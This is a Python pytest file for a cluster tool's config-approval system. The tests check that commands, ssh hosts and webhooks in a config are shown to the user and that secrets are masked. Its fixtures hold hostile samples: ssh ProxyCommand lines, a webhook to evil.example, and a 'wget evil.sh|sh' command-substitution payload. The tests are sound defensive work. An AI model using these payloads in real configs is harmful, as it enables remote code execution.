from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from ugro.kernel.config.allowance import HARMLESS, Allowances, Effects, allow, keep_allowed
from ugro.kernel.config.kinds import flow
from ugro.kernel.config.schema import NodeEntry, Settings
from ugro.kernel.support.codec import dumps
from ugro.kernel.support.errors import ConfigError, Unallowed, error_from_wire
from ugro.kernel.support.state_dir import StateDir

HARMLESS_OF_NODES = {"role", "gpu", "vram_gb", "labels", "owner"}
PLAIN = "nodes: {gpu1: {user: ann}}\n"


def effects(text: str, folder: Path) -> Effects:
    return Effects.of(text, folder / "cluster.yaml")


def digest(text: str) -> str:
    return effects(text, Path("/project")).digest


def written(section: str, name: str, value: object) -> str:
    return f"{section}: {{{name}: {flow(value)}}}\n" if section else f"{name}: {flow(value)}\n"


def other_than(value: object, example: object) -> object:
    """A value that the key accepts and that is not its default."""
    if example != value:
        return example
    if isinstance(value, bool):
        return not value
    if isinstance(value, int | float):
        return value / 2 if isinstance(value, float) else value + 1
    if isinstance(value, tuple):
        return [*value, "other"]
    words = {"info": "warning", "keep": "follow", "127.0.0.1": "0.0.0.0", "default": "mine"}
    return words.get(str(value), "/data/x")


def keys() -> list[tuple[str, str]]:
    own = [("", name) for name in Settings.known_keys() if name not in Settings.sections()]
    return [*own, *((name, key) for name, section in Settings.sections().items() for key in section.known_keys())]


@pytest.mark.parametrize(("section", "name"), keys())
def test_every_key_counts_unless_it_is_listed_as_harmless(section: str, name: str, tmp_path: Path) -> None:
    declared = (Settings.sections()[section] if section else Settings).known_keys()[name]
    value = other_than(declared.default, declared.example)
    if name == "config_file":
        (tmp_path / "ssh_config").write_text("Host a\n")
        value = str(tmp_path / "ssh_config")
    assert value != declared.default
    is_harmless = section in HARMLESS[""] or name in HARMLESS.get(section, ())
    changed = digest(PLAIN + written(section, name, value)) != digest(PLAIN)
    assert changed != is_harmless or name == "remote_root", "remote_root is part of each node"


@pytest.mark.parametrize("name", NodeEntry.known_keys())
def test_of_a_node_only_notes_labels_and_role_are_harmless(name: str) -> None:
    declared = NodeEntry.known_keys()[name]
    value = "master" if name == "role" else declared.example
    way = "transport: kubernetes" if name in ("container", "pod", "namespace") else "port: 22"
    text = f"nodes: {{gpu1: {{{way}, {name}: {flow(value)}}}}}\n" if name != "port" else "nodes: {gpu1: {port: 23}}\n"
    assert (digest(text) != digest(f"nodes: {{gpu1: {{{way}}}}}\n")) != (name in HARMLESS_OF_NODES)


def test_the_order_of_nodes_and_keys_does_not_count() -> None:
    one = "nodes: {a: {user: x, port: 1}, b: {}}\ndashboard: {host: 0.0.0.0, launch: true}\n"
    other = "dashboard: {launch: true, host: 0.0.0.0}\nnodes: {b: {}, a: {port: 1, user: x}}\n"
    assert digest(one) == digest(other)


def test_the_user_sees_commands_hosts_and_what_ssh_runs_but_no_secrets(tmp_path: Path) -> None:
    ssh_config = tmp_path / "ssh_config"
    ssh_config.write_text("Host gpu1\n  ProxyCommand=touch /tmp/pwned\n  Compression yes\n")
    text = (
        "nodes:\n  gpu1: {host: 10.0.0.7, user: ann, port: 22, env: {API_TOKEN: hunter2, A: b}}\n"
        "  box: {transport: [sh, -c, 'touch pwned']}\n  me: {transport: local, labels: [x]}\n"
        f"ssh: {{config_file: {ssh_config}, timeout: 3}}\nretention: {{results: 1 d}}\n"
        "channels: {ops: {type: webhook, url: 'https://evil.example/x'}}\n"
    )
    found = effects(text, tmp_path)
    assert found.ssh_config == ssh_config.read_bytes()
    lines = [line for line in found.lines if "sha256" not in line]
    assert lines == [
        'node box: runs this command on this machine: [sh, -c, "touch pwned"]',
        "ssh configuration: ProxyCommand=touch /tmp/pwned",
        'channels.ops: {url: "https://evil.example/x"}',
        'node gpu1: sends code by ssh to ann@10.0.0.7, port: 22, env: {A: b, API_TOKEN: "***"}',
        "node me: runs jobs on this machine",
        "retention.results: 86400",
        "ssh configuration: Host gpu1",
        f"ssh.config_file: {ssh_config}",
    ], "commands on this machine first, and never behind 'and 5 more'"
    assert effects(text.replace("hunter2", "hunter3"), tmp_path).digest != found.digest, "a masked value counts"
    ssh_config.write_text(ssh_config.read_text().replace("yes", "no"))
    assert effects(text, tmp_path).digest != found.digest, "every line of it counts"
    ssh_config.unlink()
    with pytest.raises(ConfigError, match="ssh_config cannot be read: no such file"):
        effects(text, tmp_path)


@pytest.mark.parametrize(
    "line",
    [
        'Proxy"Command" touch pwned', '"ProxyCommand"touch pwned', "=ProxyCommand touch pwned", "Include\t/tmp/more",
        "  match exec true",
    ],
)  # fmt: skip
def test_a_command_of_ssh_is_shown_first_however_it_is_written(tmp_path: Path, line: str) -> None:
    """ssh takes all of them: see ``ssh -G``."""
    ssh_config = tmp_path / "ssh_config"
    ssh_config.write_text(f"# ProxyCommand no\n\tPort=22\nCompression yes\n{line}\nStrictHostKeyChecking no\n")
    shown = effects(f"nodes: [gpu1]\nssh: {{config_file: {ssh_config}}}\n", tmp_path).lines
    assert shown[0] == f"ssh configuration: {line.strip().expandtabs(1)}"
    assert [each for each in shown[1:] if "sha256" not in each and each.startswith("ssh conf")] == [
        "ssh configuration: Port=22",
        "ssh configuration: StrictHostKeyChecking no",
    ]


def test_no_part_of_a_command_is_hidden_because_it_looks_like_a_password(tmp_path: Path) -> None:
    evil = "curl -s https://a:$(wget${IFS}-qO-${IFS}evil.sh|sh)@cdn.example/x"
    words = flow(["sh", "-c", evil])
    text = (
        f"nodes: {{gpu1: {{}}, box: {{transport: {words}}}}}\n"
        f"discovery: {{command: {words}, consul: {{url: 'http://127.0.0.1:8500'}}}}\n"
        f"power: {{suspend: {words}, resume: {words}, on_node: {words}, labels: {{slow: {{resume: {words}}}}}}}\n"
        f"hooks: {{idle: {{call: {words}}}}}\n"
        "environment: {packages: [a], index_url: 'https://ann:hunter2@host/simple'}\n"
    )
    shown = effects(text, tmp_path).lines
    named = {line.partition(":")[0] for line in shown if evil in line}
    power = {f"power.{key}" for key in ("suspend", "resume", "on_node", "labels")}
    assert named >= {"node box", "discovery.command", "hooks.idle", *power}, shown
    assert [line for line in shown if "curl" in line and evil not in line] == []
    assert "hunter2" not in "".join(shown)


def test_an_ssh_configuration_that_would_block_is_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(ConfigError, match="pipe is not a file"):
        effects(f"nodes: [gpu1]\nssh: {{config_file: {tmp_path / 'pipe'}}}\n", tmp_path)


def test_exactly_what_was_allowed_for_this_very_file_is_allowed(tmp_path: Path) -> None:
    allowances, before = Allowances(StateDir(tmp_path / "home")), effects(PLAIN, tmp_path)
    with pytest.raises(Unallowed, match="not used until you allow it: node gpu1: sends code by ssh to ann@gp") as first:
        allowances.require(before)
    assert first.value.hint == f"see all that it does, and allow it: ugro allow {tmp_path}/cluster.yaml"
    allow(allowances, before)
    allowances.require(before)
    assert stat.S_IMODE(os.stat(allowances.path).st_mode) == 0o600
    assert not allowances.has(effects(PLAIN, tmp_path / "clone")), "the same text elsewhere is another file"
    after = effects("nodes: {gpu1: {user: ann}, b: {}}\nalerts: {repeat: 60}\n", tmp_path)
    with pytest.raises(Unallowed, match=r"the edit is not used until you allow it: \+ node b: sends code by ssh to b$"):
        allowances.require(after)
    allow(allowances, after)
    assert allowances.has(before), "going back to another branch asks nothing"
    assert allowances.remove(after.file)
    assert not allowances.has(before)
    assert not allowances.remove(after.file)


def test_a_link_to_another_file_is_another_file(tmp_path: Path) -> None:
    allowances = Allowances(StateDir(tmp_path / "home"))
    for name in ("one", "two"):
        (tmp_path / name).write_text(PLAIN)
    (tmp_path / "cluster.yaml").symlink_to("one")
    allow(allowances, effects(PLAIN, tmp_path))
    (tmp_path / "cluster.yaml").unlink()
    (tmp_path / "cluster.yaml").symlink_to("two")
    assert not allowances.has(effects(PLAIN, tmp_path))


@pytest.mark.parametrize("content", ["", "{}", "[]", '{"files": {"x": 3}}', '{"files": {"x": [{}]}}', "\0"])
def test_a_damaged_file_allows_nothing_and_is_replaced(content: str, tmp_path: Path) -> None:
    home, found = StateDir(tmp_path), effects(PLAIN, tmp_path)
    home.allowances.write_text(content)
    assert not Allowances(home).has(found)
    allow(Allowances(home), found)
    assert Allowances(home).has(found)


def test_a_file_that_is_edited_for_years_does_not_grow_the_list(tmp_path: Path) -> None:
    allowances = Allowances(StateDir(tmp_path))
    for number in range(50):
        allow(allowances, effects(f"nodes: [n{number}]\n", tmp_path))
    [known] = json.loads(allowances.path.read_text())["files"].values()
    assert len(known) == 20
    assert allowances.has(effects("nodes: [n49]\n", tmp_path))


def test_an_edit_by_ugro_keeps_what_was_allowed_and_allows_nothing_else(tmp_path: Path) -> None:
    allowances, file = Allowances(StateDir(tmp_path)), tmp_path / "cluster.yaml"
    after = "nodes: {gpu1: {user: ann}, b: {}}\n"
    keep_allowed(allowances, file, PLAIN, after)
    assert not allowances.has(effects(after, tmp_path))
    allow(allowances, effects(PLAIN, tmp_path))
    keep_allowed(allowances, file, PLAIN, after)
    assert allowances.has(effects(after, tmp_path))


def test_the_error_travels_with_all_that_a_user_must_see() -> None:
    for before in (None, ("a", "b")):
        sent = Unallowed("/x y/cluster.yaml", "d1", ("b", "c"), before)
        got = error_from_wire(json.loads(dumps(sent.to_wire())))
        assert isinstance(got, Unallowed)
        assert (got.file, got.digest, got.lines, got.before) == (sent.file, sent.digest, sent.lines, sent.before)
        assert (str(got), got.hint, got.exit_code) == (str(sent), sent.hint, 2)
    assert Unallowed("f", "d", ("b", "c"), ("a", "b")).news == ["+ c", "- a"]
    assert Unallowed("f", "d", ("a",), ("a",)).news == ["masked values changed"]
    assert str(Unallowed("f", "d", tuple("abcde"))).endswith("a; b; c; and 2 more")
